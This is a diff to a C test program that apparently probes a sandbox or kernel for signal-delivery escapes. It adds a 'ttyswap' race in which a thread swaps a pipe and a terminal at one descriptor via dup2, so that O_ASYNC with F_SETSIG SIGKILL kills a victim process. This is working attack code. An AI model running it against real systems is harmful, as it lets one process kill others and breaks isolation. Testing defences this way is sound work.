@@ -21,6 +21,10 @@
  *               types one every 50 ms) and the victim gets SIGKILL
  *   ttyowned TERMINAL   the same after F_SETOWN getpid(): the file has an owner, which
  *               O_ASYNC keeps (never escapes: the same traced as alone)
+ *   ttyswap TERMINAL    O_ASYNC turned on for a descriptor number at which a second thread
+ *               puts, by turns, a pipe's read end and the terminal (dup2): checked while it
+ *               is the pipe (no owner to decide), made while it is the terminal -- tried
+ *               until the terminal's file has an owner (or SWAP_TRIES times)
  *
  * "self" (VICTIM ignored): what programs do -- the owner set to the program itself
  * (F_SETOWN getpid(), F_SETOWN_EX of its own thread; O_ASYNC on a pty of its own, which no
@@ -30,6 +34,7 @@
  */
 #include "attack.h"
 
+#include <pthread.h>
 #include <sys/ioctl.h>
 #include <sys/socket.h>
 
@@ -38,27 +43,9 @@ static volatile sig_atomic_t got;
 
 static void own_terminal(int session);
 
-static int victim_ended(void) {
-    char path[64], buf[512];
-    snprintf(path, sizeof path, "/proc/%d/stat", victim);
-    FILE *f = fopen(path, "r");
-    if (!f)
-        return 1;
-    size_t n = fread(buf, 1, sizeof buf - 1, f);
-    fclose(f);
-    buf[n] = 0;
-    const char *end = strrchr(buf, ')');
-    return end && end[1] == ' ' && end[2] == 'Z';
-}
+static int victim_ended(void) { return process_ended(victim); }
 
-static int victim_ends_soon(void) {
-    for (int i = 0; i < 50; i++) {
-        if (victim_ended())
-            return 1;
-        usleep(10000);
-    }
-    return 0;
-}
+static int victim_ends_soon(void) { return process_ends_soon(victim); }
 
 /* the owner of fds[0] set to `who` by MODE; -1 and errno when refused */
 static int set_owner(const char *mode, int fd, pid_t who, pid_t group) {
@@ -162,11 +149,62 @@ static void self_owners(void) {
     exit(0);
 }
 
+#define SWAP_FD 100
+#define SWAP_TRIES 3000
+static int swap_pipe, swap_tty;
+static volatile int swapping = 1, swaps;
+
+static void *swapper(void *unused) {
+    (void)unused;
+    for (; swapping; swaps++) {  /* (each about as long at the number: a short spin after each) */
+        dup2(swap_tty, SWAP_FD);
+        for (volatile int i = 0; i < 20000; i++) {}
+        dup2(swap_pipe, SWAP_FD);
+        for (volatile int i = 0; i < 20000; i++) {}
+    }
+    return NULL;
+}
+
+/* ttyswap: the terminal's file (F_SETSIG SIGKILL) and a pipe's by turns at SWAP_FD */
+static void terminal_swap(int tty) {
+    int fds[2];
+    pthread_t thread;
+    if (pipe(fds) < 0 || dup2(fds[0], SWAP_FD) < 0)
+        skipped("pipe: %s", ename(errno));
+    swap_pipe = fds[0];
+    swap_tty = tty;
+    if (pthread_create(&thread, NULL, swapper, NULL))
+        skipped("pthread_create");
+    int tries = 0, refused = 0;
+    struct f_owner_ex owner = {0, 0};
+    while (!swaps) {}  /* (the swapper runs) */
+    while (tries++ < SWAP_TRIES && !owner.pid) {
+        if (fcntl(SWAP_FD, F_SETFL, O_ASYNC) < 0)
+            refused++;
+        fcntl(tty, F_GETOWN_EX, &owner);
+        for (volatile int i = 0; i < 7000; i++) {}  /* (a try now and then, not all at once) */
+    }
+    swapping = 0;
+    pthread_join(thread, NULL);
+    for (int i = 0; i < 5 && !victim_ended(); i++)
+        victim_ends_soon();
+    if (victim_ended())
+        escaped("ttyswap: the kernel sent SIGKILL to pid %d, owner %d (%d tries)", victim,
+                owner.pid, tries);
+    blocked("ttyswap: the victim lives (owner %d; %d tries, %d refused)", owner.pid, tries - 1,
+            refused);
+}
+
 /* O_ASYNC on the terminal, with F_SETSIG SIGKILL first: no owner named */
 static void terminal(const char *mode, const char *path) {
     int fd = open(path, O_RDWR | O_NOCTTY);
     if (fd < 0)
         skipped("open %s: %s", path, ename(errno));
+    if (!strcmp(mode, "ttyswap")) {
+        if (fcntl(fd, F_SETSIG, SIGKILL) < 0)
+            skipped("F_SETSIG: %s", ename(errno));
+        terminal_swap(fd);
+    }
     int owned = !strcmp(mode, "ttyowned"); /* (then the signal is ours: SIGUSR1) */
     if (owned)
         signal(SIGUSR1, on_usr1);
